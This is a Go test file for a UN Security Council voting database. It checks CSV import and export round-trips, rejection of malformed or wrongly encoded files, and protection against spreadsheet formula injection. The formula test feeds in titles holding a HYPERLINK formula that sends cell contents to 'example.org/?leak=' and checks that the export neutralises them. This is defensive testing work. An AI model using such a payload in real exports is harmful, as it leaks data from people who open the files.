package main

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"
	"unsc/models/dbtest"

	"unsc/models"
	"unsc/models/undl"
	"unsc/seed"
)

// dumpDB is every row of the tables an import writes.
func dumpDB(t *testing.T, location string) string {
	t.Helper()
	return dbtest.Dump(t, dbtest.Open(t, location), "members", "terms", "drafts", "votes", "vote_casts", "changes")
}

// TestUNDLRoundTrip exports votes of both eras as UN Digital Library CSV
// (the seed's vote of 2011 and res. 84 (1950), adopted 7-0-3 by the
// eleven-member Council with the USSR absent), imports the file into a new
// database, and exports again: the two files are byte for byte the same.
// Importing again changes nothing.
func TestUNDLRoundTrip(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	srv := startServer(t, dbtest.Location(t), "--record=false")
	code, body := send(t, srv, "POST", "/v1/drafts", map[string]any{"symbol": "S/1588", "title": "Complaint of aggression upon the Republic of Korea",
		"topic": "Korea", "introduced_on": "1950-07-07"})
	if code != 201 {
		t.Fatalf("draft of 1950: %d %s", code, body)
	}
	code, body = send(t, srv, "PUT", "/v1/drafts/3/vote", map[string]any{"voted_on": "1950-07-07", "meeting": "S/PV.476", "votes": map[string]string{
		"CHN": "yes", "FRA": "yes", "GBR": "yes", "USA": "yes", "CUB": "yes", "ECU": "yes", "NOR": "yes",
		"EGY": "abstain", "IND": "abstain", "YUG": "abstain", "RUS": "absent"}})
	if code != 201 || !strings.Contains(body, `"outcome":"adopted"`) || !strings.Contains(body, `"required":7`) {
		t.Fatalf("res. 84 (1950): %d %s", code, body)
	}
	req, _ := http.NewRequest("PATCH", "http://"+srv.addr+"/v1/drafts/3", strings.NewReader(`{"resolution":"S/RES/84 (1950)"}`))
	req.Header.Set("Authorization", "Bearer "+srv.token)
	req.Header.Set("If-Match", "*")
	if res, err := http.DefaultClient.Do(req); err != nil || res.StatusCode != 200 {
		t.Fatalf("resolution of 1950: %v %v", res, err)
	}
	first := get(t, srv.addr, "/v1/votes.csv")
	srv.stop()
	if !strings.Contains(first, ",1950-07-07,S/RES/84 (1950),S/1588,S/PV.476,") {
		t.Errorf("the export lacks the resolution:\n%s", first)
	}
	if !strings.HasPrefix(first, "undl_id,ms_code,ms_name,permanent_member,ms_vote,date,resolution,draft,meeting,description,agenda,subjects,vote_note,modality,total_yes,total_no,total_abstentions,total_non_voting,total_ms,undl_link\n") ||
		!strings.Contains(first, ",RUS,Russian Federation,True,N,2011-10-04,,S/2011/612,S/PV.6627,") ||
		!strings.Contains(first, ",RUS,Union of Soviet Socialist Republics,True,X,1950-07-07,S/RES/84 (1950),S/1588,S/PV.476,") ||
		strings.Count(first, "\n") != 1+11+15 {
		t.Fatalf("export:\n%s", first)
	}
	file := filepath.Join(dir, "votes.csv")
	os.WriteFile(file, []byte(first), 0o644)
	empty := dbtest.Location(t)
	code, out, stderr := runCmd(t, "import", "undl", file, "--db", empty, "--record=false")
	if code != 0 || !strings.Contains(out, "added 1 drafts, 1 votes; 1 votes were already recorded") {
		t.Fatalf("import: %d %q %q", code, out, stderr)
	}
	code, out, _ = runCmd(t, "import", "undl", file, "--db", empty, "--record=false")
	if code != 0 || !strings.Contains(out, "added 0 drafts, 0 votes; 2 votes were already recorded") {
		t.Errorf("second import: %q", out)
	}
	second := dbtest.Location(t)
	runCmd(t, "import", "undl", file, "--db", second, "--record=false")
	srv2 := startServer(t, second, "--record=false")
	defer srv2.stop()
	if again := get(t, srv2.addr, "/v1/votes.csv"); again != first {
		t.Errorf("export after import differs:\n%s\nfirst:\n%s", again, first)
	}
	if one := get(t, srv2.addr, "/v1/drafts/1/vote.csv"); !strings.Contains(first, one[strings.Index(one, "\n")+1:]) || strings.Count(one, "\n") != 16 {
		t.Errorf("the draft's own CSV is not its part of the whole export:\n%s", one)
	}
	var d struct{ Status, Resolution string }
	json.Unmarshal([]byte(get(t, srv2.addr, "/v1/drafts/3")), &d)
	if d.Status != "adopted" || d.Resolution != "S/RES/84 (1950)" {
		t.Errorf("res. 84 (1950) imported as %s, want adopted (7 of 11 suffice before 1966)", d.Status)
	}
}

// utf16Text is s in UTF-16, big- or little-endian, with or without its
// byte order mark.
func utf16Text(s string, big, mark bool) string {
	units := utf16.Encode([]rune(s))
	if mark {
		units = append([]uint16{0xFEFF}, units...)
	}
	b := make([]byte, 0, 2*len(units))
	for _, u := range units {
		if big {
			b = append(b, byte(u>>8), byte(u))
		} else {
			b = append(b, byte(u), byte(u>>8))
		}
	}
	return string(b)
}

// TestUNDLImportRefusesBadFiles: the first problem is named by line and
// column, and nothing is written.
func TestUNDLImportRefusesBadFiles(t *testing.T) {
	t.Parallel()
	header := "undl_id,ms_code,ms_name,permanent_member,ms_vote,date,resolution,draft,meeting,description,agenda,subjects,vote_note,modality,total_yes,total_no,total_abstentions,total_non_voting,total_ms,undl_link\n"
	good := ",FRA,France,TRUE,Y,2011-10-04,,S/2011/612,S/PV.6627,Draft,Syria,,,Recorded Vote,9,2,4,0,15,\n"
	tests := []struct {
		name, body, want string
	}{
		{"bad vote", header + good + ",RUS,Russian Federation,TRUE,Q,2011-10-04,,S/2011/612,S/PV.6627,Draft,Syria,,,,,,,,,\n", "line 3, column 5: ms_vote"},
		{"bad date", header + ",RUS,Russian Federation,TRUE,N,2011-02-30,,S/2011/612,S/PV.6627,Draft,Syria,,,,,,,,,\n", "line 2, column 6: date"},
		{"bad code", header + ",RUSSIA,Russian Federation,TRUE,N,2011-10-04,,S/2011/612,S/PV.6627,Draft,Syria,,,,,,,,,\n", "line 2, column 2: ms_code"},
		{"bad quoting", header + `,"RUS,Russian Federation,TRUE,N` + "\n", "line 2"},
		{"missing column", "ms_code,ms_vote\nRUS,N\n", "line 1, column 1: missing column"},
		{"incomplete roll call", header + strings.Replace(good, "S/2011/612", "S/2011/999", 1), "line 2: "},
		{"a member not sitting", header + ",BRA,Brazil,False,Y,2012-02-04,,S/2012/77,S/PV.6711,Draft,Syria,,,,,,,,,\n", "line 2, column 2: BRA does not sit"},
		{"a member never known", header + ",BTN,Bhutan,False,Y,2012-02-04,,S/2012/77,S/PV.6711,Draft,Syria,,,,,,,,,\n", "line 2, column 2: BTN is not a member"},
		// Spreadsheets save CSV as UTF-16 too; read as UTF-8 it said
		// only "missing column ms_code".
		{"UTF-16 little-endian", utf16Text(header+good, false, true), "votes.csv: line 1, column 1: the file is UTF-16"},
		{"UTF-16 big-endian", utf16Text(header+good, true, true), "votes.csv: line 1, column 1: the file is UTF-16"},
		{"UTF-16 without mark", utf16Text(header+good, false, false), "votes.csv: line 1, column 1: the file begins with a NUL byte, as UTF-16 does"},
		{"Latin-1", header + ",FRA,Fran\xe7e,TRUE,Y,2011-10-04,,S/2011/612,S/PV.6627,Draft,Syria,,,Recorded Vote,9,2,4,0,15,\n", "votes.csv: line 2, column 6: byte 0xE7, byte 5 of the field, is not UTF-8"},
		{"Latin-1 header", "ms_code,ms_name,d\xe9tail\n", "votes.csv: line 1, column 17: byte 0xE9, byte 2 of the field"},
	}
	// On SQLite every case gets a copy of one seeded file, so what they
	// held before is read once, from a copy; on PostgreSQL each case seeds
	// a schema of its own, with times of its own in the change feed.
	var shared string
	if dbtest.Postgres() == "" {
		copied, _ := seeded(t)
		shared = dumpDB(t, copied)
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			file := filepath.Join(dir, "votes.csv")
			os.WriteFile(file, []byte(tt.body), 0o644)
			db, _ := seeded(t)
			before := shared
			if dbtest.Postgres() != "" {
				before = dumpDB(t, db)
			}
			code, _, stderr := runCmd(t, "import", "undl", file, "--db", db)
			if code == 0 || !strings.Contains(stderr, tt.want) || !strings.Contains(stderr, "nothing was imported") {
				t.Fatalf("exit %d, stderr %q, want %q", code, stderr, tt.want)
			}
			if dumpDB(t, db) != before {
				t.Error("a refused import wrote")
			}
		})
	}
}

// send makes a write with the server's key and returns the status and body.
func send(t *testing.T, srv *server, method, path string, body any) (int, string) {
	t.Helper()
	res, b := call(t, method, "http://"+srv.addr+path, srv.token, body)
	return res.StatusCode, string(b)
}

// TestUNDLExportNeutralisesFormulas records drafts whose title and topic
// start with what a spreadsheet runs as a formula, exports them through
// the real router, and imports the file again: the cells are written
// behind one quote, and read back as they were. A meeting is a meeting
// record's symbol, so one that starts a formula is refused.
func TestUNDLExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	srv := startServer(t, dbtest.Location(t), "--record=false")
	votes := map[string]string{}
	for _, code := range []string{"AZE", "COL", "DEU", "FRA", "GBR", "GTM", "IND", "MAR", "PAK", "PRT", "TGO", "USA", "ZAF"} {
		votes[code] = "yes"
	}
	votes["CHN"], votes["RUS"] = "no", "no"
	starts := []string{"=", "+", "-", "@", "\t", "\r"}
	for i, s := range starts {
		title, topic, meeting := s+`HYPERLINK("http://example.org/?leak="&A1, "click")`, s+"1+1", fmt.Sprintf("S/PV.%d", 6711+i)
		code, body := send(t, srv, "POST", "/v1/drafts", map[string]any{"title": title, "topic": topic, "introduced_on": "2012-02-01"})
		if code != 201 {
			t.Fatalf("draft %q: %d %s", title, code, body)
		}
		var d struct{ ID int64 }
		json.Unmarshal([]byte(body), &d)
		code, body = send(t, srv, "PUT", fmt.Sprintf("/v1/drafts/%d/vote", d.ID), map[string]any{"voted_on": "2012-02-04", "meeting": s + meeting, "votes": votes})
		if code != 422 || !strings.Contains(body, `"field":"meeting"`) {
			t.Fatalf("vote at meeting %q: %d %s", s+meeting, code, body)
		}
		code, body = send(t, srv, "PUT", fmt.Sprintf("/v1/drafts/%d/vote", d.ID), map[string]any{"voted_on": "2012-02-04", "meeting": meeting, "votes": votes})
		if code != 201 && code != 200 {
			t.Fatalf("vote on %q: %d %s", title, code, body)
		}
	}
	first := get(t, srv.addr, "/v1/votes.csv")
	srv.stop()

	rows, err := csv.NewReader(strings.NewReader(first)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	cells := map[string]bool{}
	for _, row := range rows[1:] {
		for _, cell := range row {
			cells[cell] = true
		}
	}
	for i, s := range starts {
		for _, want := range []string{"'" + s + `HYPERLINK("http://example.org/?leak="&A1, "click")`, "'" + s + "1+1", fmt.Sprintf("S/PV.%d", 6711+i)} {
			if !cells[want] {
				t.Errorf("no cell %q in the export:\n%s", want, first)
			}
		}
	}
	for cell := range cells {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("cell %q starts a formula", cell)
		}
	}

	read, err := undl.Parse(strings.NewReader(first))
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	for _, v := range read {
		got[v.Title+"|"+v.Topic+"|"+v.Meeting] = true
	}
	for i, s := range starts {
		want := s + `HYPERLINK("http://example.org/?leak="&A1, "click")` + "|" + s + "1+1" + "|" + fmt.Sprintf("S/PV.%d", 6711+i)
		if !got[want] {
			t.Errorf("not read back: %q; read %v", want, got)
		}
	}

	file := filepath.Join(dir, "votes.csv")
	os.WriteFile(file, []byte(first), 0o644)
	second := dbtest.Location(t)
	if code, out, stderr := runCmd(t, "import", "undl", file, "--db", second, "--record=false"); code != 0 || !strings.Contains(out, "6 drafts, 6 votes; 1 votes were already recorded") {
		t.Fatalf("import: %d %q %q", code, out, stderr)
	}
	srv2 := startServer(t, second, "--record=false")
	defer srv2.stop()
	if again := get(t, srv2.addr, "/v1/votes.csv"); again != first {
		t.Errorf("export after import differs:\n%q\nfirst:\n%q", again, first)
	}
}

// TestUNDLRoundTripOverEightDecades writes a file of two unanimous
// resolutions a year from 1946 to 2025, each voted by the Council of its
// day under the names of that day (11 members to 1965, 15 from 1966),
// imports it into a new database and exports it again: the same rows.
func TestUNDLRoundTripOverEightDecades(t *testing.T) {
	t.Parallel()
	council, err := seed.Council()
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	b.WriteString(strings.Join(undl.Columns, ",") + "\n")
	rows, res := 0, 0
	for y := 1946; y <= 2025; y++ {
		for k := range 2 {
			res++
			on := models.Date(fmt.Sprintf("%d-%02d-15", y, 3+k*6))
			var sitting []models.Member
			for _, m := range council {
				if m.SitsOn(on) {
					sitting = append(sitting, m.On(on))
				}
			}
			if len(sitting) != models.CouncilOn(on).Seats {
				t.Fatalf("%s: %d members known", on, len(sitting))
			}
			for _, m := range sitting {
				perm := "False"
				if m.Permanent {
					perm = "True"
				}
				fmt.Fprintf(&b, ",%s,%s,%s,Y,%s,S/RES/%d (%d),,S/PV.%d,Resolution %d,Decades,,,Recorded Vote,%d,0,0,0,%d,\n",
					m.Code, m.Name, perm, on, res, y, res, res, len(sitting), len(sitting))
				rows++
			}
		}
	}
	dir := t.TempDir()
	file := filepath.Join(dir, "decades.csv")
	os.WriteFile(file, []byte(b.String()), 0o644)
	db := dbtest.Location(t)
	code, out, stderr := runCmd(t, "import", "undl", file, "--db", db, "--record=false")
	if code != 0 || !strings.Contains(out, fmt.Sprintf("added %d drafts, %d votes", res, res)) {
		t.Fatalf("import of %d rows: %d %q %q", rows, code, out, stderr)
	}
	srv := startServer(t, db, "--record=false")
	defer srv.stop()
	again := get(t, srv.addr, "/v1/votes.csv")
	want := strings.Split(strings.TrimSpace(b.String()), "\n")
	got := slices.DeleteFunc(strings.Split(strings.TrimSpace(again), "\n"), func(l string) bool { return strings.Contains(l, "S/2011/612") })
	slices.Sort(want)
	slices.Sort(got)
	for i := range min(len(got), len(want)) {
		if got[i] != want[i] {
			t.Errorf("the export after import differs from the file: %q, want %q", got[i], want[i])
			break
		}
	}
	if len(got) != len(want) {
		t.Errorf("%d rows exported, want %d", len(got), len(want))
	}
}
